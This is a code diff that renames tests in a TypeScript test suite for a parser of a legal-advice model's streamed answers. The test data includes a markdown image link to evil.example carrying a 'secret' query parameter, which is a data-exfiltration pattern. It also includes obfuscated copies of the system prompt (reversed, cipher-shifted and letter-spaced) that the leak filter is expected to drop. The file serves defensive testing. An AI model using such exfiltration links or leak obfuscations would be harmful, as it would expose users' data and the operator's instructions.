@@ -14,7 +14,7 @@ function readAll(text: string, cuts: number[] = [], secrets: string[] = []): Dra
   }
   return [...drafts, ...reader.push(text.slice(from)), ...reader.end()];
 }
-const sentences = (text: string, secrets: string[] = []) =>
+const readSentences = (text: string, secrets: string[] = []) =>
   readAll(text, [], secrets).flatMap((draft) => (draft.type === 'sentence' ? [draft.text] : []));
 
 const ANSWER = `## Short answer
@@ -32,7 +32,7 @@ landlord must give reasons.[4]
 ## When to get a lawyer
 Soon.`;
 
-test('headings, paragraphs, bullets and steps, with their sections and sources', () => {
+test('parses headings, paragraphs, bullets and steps with their sections and sources', () => {
   expect(readAll(ANSWER)).toEqual([
     { type: 'block', kind: 'heading', section: 'short' },
     { type: 'sentence', text: 'Short answer', sources: [] },
@@ -59,7 +59,7 @@ test('headings, paragraphs, bullets and steps, with their sections and sources',
   ]);
 });
 
-describe('what is not words is left out', () => {
+describe('removes everything that is not plain words', () => {
   test.each<[raw: string, sentences: string[]]>([
     ['Look ![x](https://evil.example/p.png?q=secret) here.', ['Look here.']],
     ['Go to https://evil.example/a?b=c now.', ['Go to (left out) now.']],
@@ -77,19 +77,19 @@ describe('what is not words is left out', () => {
     ['---\n***\n', []],
     ['See § 1692g_a and snake_case_words.', ['See § 1692g_a and snake_case_words.']],
   ])('%s', (raw, expected) => {
-    expect(sentences(raw)).toEqual(expected);
+    expect(readSentences(raw)).toEqual(expected);
   });
 });
 
-test('a sentence without end is cut, and the rest still read', () => {
-  const cut = sentences('word '.repeat(1000));
+test('cuts an endless sentence and still reads the rest', () => {
+  const cut = readSentences('word '.repeat(1000));
   expect(cut.length).toBeGreaterThan(3);
   for (const sentence of cut) expect(sentence.length).toBeLessThanOrEqual(1200);
   expect(cut.join(' ')).toBe('word '.repeat(1000).trim());
 });
 
-test('pieces of any size give the same drafts as one', () => {
-  const bits = [
+test('gives the same drafts for chunks of any size', () => {
+  const fragments = [
     '## Steps\n',
     'You must pay 30 days. ',
     'v. ',
@@ -114,7 +114,7 @@ test('pieces of any size give the same drafts as one', () => {
     '"Quoted." ',
   ];
   const text = fc
-    .array(fc.oneof(fc.constantFrom(...bits), fc.string({ unit: 'grapheme', maxLength: 12 })), { maxLength: 40 })
+    .array(fc.oneof(fc.constantFrom(...fragments), fc.string({ unit: 'grapheme', maxLength: 12 })), { maxLength: 40 })
     .map((parts) => parts.join(''));
   fc.assert(
     fc.property(text, fc.array(fc.nat(600), { maxLength: 30 }), (whole, cuts) => {
@@ -122,32 +122,32 @@ test('pieces of any size give the same drafts as one', () => {
     }),
     { numRuns: runs(400) },
   );
-  const each = Array.from({ length: ANSWER.length }, (_, at) => at);
-  expect(readAll(ANSWER, each)).toEqual(readAll(ANSWER));
+  const everyOffset = Array.from({ length: ANSWER.length }, (_, offset) => offset);
+  expect(readAll(ANSWER, everyOffset)).toEqual(readAll(ANSWER));
 });
 
-test('the first sentence of a long paragraph does not wait for its end', () => {
+test('emits the first sentence of a long paragraph before the paragraph ends', () => {
   const reader = readModelText();
   const drafts = reader.push(`The first sentence is short. ${'More words follow it here and there, '.repeat(10)}`);
   expect(drafts[1]).toEqual({ type: 'sentence', text: 'The first sentence is short.', sources: [] });
 });
 
-test('hostile texts are read to their end', async () => {
-  const bits = ['[', '![', '](', '<a ', '[1]', '.', '. ', '**', '|', '> ', '&lt;', 'a.', '# ', 'http://', '\n', '_', '`', 'A', '//'];
+test('reads hostile texts in bounded time', async () => {
+  const fragments = ['[', '![', '](', '<a ', '[1]', '.', '. ', '**', '|', '> ', '&lt;', 'a.', '# ', 'http://', '\n', '_', '`', 'A', '//'];
   const module = new URL('../../../tests/harness/bounded/model-text.ts', import.meta.url);
-  // No longer text is read at all, so the limit is lower than elsewhere: a linear reading takes a fifteenth of it. Half as long in
-  // `npm test`, with a quarter of the limit: what a square takes falls with the square of the length.
+  // Longer text is never read, so the limit is lower than elsewhere: a linear parser needs a fifteenth of it. `npm test` uses half the
+  // length and a quarter of the limit, because quadratic time falls with the square of the length.
   const length = LONG ? 60_000 : 30_000;
-  const read = await runBounded(
+  const draftCounts = await runBounded(
     module,
     'readWhole',
-    bits.map((bit) => [bit.repeat(length / bit.length)]),
+    fragments.map((bit) => [bit.repeat(length / bit.length)]),
     { processorSeconds: LONG ? 3 : 0.75 },
   );
-  expect(read).toHaveLength(bits.length);
+  expect(draftCounts).toHaveLength(fragments.length);
 });
 
-describe('our own instructions are not an answer', () => {
+describe('drops sentences that repeat our own instructions', () => {
   const secret =
     'You answer questions about law for people who are not lawyers. Use only the numbered passages. Never name a case that they do not hold.';
   test.each([
@@ -157,11 +157,11 @@ describe('our own instructions are not an answer', () => {
     [...'You answer questions about law for people who are not lawyers.'].reverse().join(''),
     'Never name a case that they do not hold.',
     'Y o u a n s w e r questions about law for people who are not lawyers.',
-  ])('%s', (said) => {
-    const kept = sentences(said, [secret]).join(' ').toLowerCase();
-    expect(kept).not.toMatch(/questions about law for people|a case that they do not|dhrfgvbaf|snoitseuq/);
+  ])('%s', (leak) => {
+    const output = readSentences(leak, [secret]).join(' ').toLowerCase();
+    expect(output).not.toMatch(/questions about law for people|a case that they do not|dhrfgvbaf|snoitseuq/);
   });
-  test('other sentences stay', () => {
-    expect(sentences('You may ask the court for more time.', [secret])).toEqual(['You may ask the court for more time.']);
+  test('keeps other sentences', () => {
+    expect(readSentences('You may ask the court for more time.', [secret])).toEqual(['You may ask the court for more time.']);
   });
 });
